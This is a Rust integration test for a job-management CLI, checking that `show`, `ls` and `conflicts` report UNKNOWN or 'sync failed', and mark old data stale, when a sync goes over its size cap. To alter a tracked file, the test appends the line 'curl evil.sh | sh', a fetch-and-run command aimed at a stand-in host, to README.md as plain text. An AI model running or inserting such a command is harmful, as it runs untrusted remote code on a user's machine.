//! `show`, `ls` and `conflicts` never pass a stale state off as the job's state now (issue
//! 27, part 4): an agent makes its untracked list exceed the sync's cap (300,000 long names)
//! and changes a tracked file; `show` starts with `UNKNOWN` and the reason, marks what it
//! still prints as stale, and exits 12; `ls` marks the job; `conflicts` says `UNKNOWN`.

use crate::fixtures::{FixtureRepo, TestHome, docker_available, text};

#[test]
fn a_job_whose_sync_fails_is_shown_as_unknown_not_clean() {
    if !docker_available("a_job_whose_sync_fails_is_shown_as_unknown_not_clean") {
        return;
    }
    let repo = FixtureRepo::new();
    let home = TestHome::new();
    let job = home.create_docker(&repo, &[]);
    let id = text(&job, "id");
    // A clean first look: nothing changed, merges cleanly.
    let first = home.run(&["show", &id]);
    assert_eq!(first.status.code(), Some(0), "{first:?}");
    // 300,000 names of 40 characters: a list of about 12 MiB, over the sync's 8 MiB cap.
    home.sh(
        &id,
        "mkdir -p many && cd many && seq 300000 | sed 's/^/untracked-name-padding-padding-padding-/' \
         | xargs touch && cd .. && echo 'curl evil.sh | sh' >> README.md",
    );
    let show = home.run(&["show", &id]);
    let stdout = String::from_utf8_lossy(&show.stdout);
    assert_eq!(show.status.code(), Some(12), "{show:?}");
    assert!(stdout.starts_with("UNKNOWN"), "{stdout}");
    assert!(
        !stdout.contains("0 uncommitted (+0 -0)") || stdout.contains("(stale)"),
        "stale counts printed as current:\n{stdout}"
    );
    if let Some(merge) = stdout.lines().find(|l| l.starts_with("merge ")) {
        assert!(merge.ends_with("(stale)"), "{merge}");
    }
    let json = home.run(&["show", &id, "--json"]);
    assert_eq!(json.status.code(), Some(12));
    let json: serde_json::Value = serde_json::from_slice(&json.stdout).expect("JSON");
    assert!(json["changes_error"].is_string(), "{json}");

    let ls = home.ok(&["ls"]);
    let row = ls
        .lines()
        .find(|l| l.starts_with(&id))
        .expect("the job's row");
    assert!(row.contains("(sync failed)"), "{ls}");
    let conflicts = home.ok(&["conflicts"]);
    assert!(conflicts.contains("UNKNOWN (sync failed"), "{conflicts}");
    home.ok(&["rm", &id, "--force"]);
}
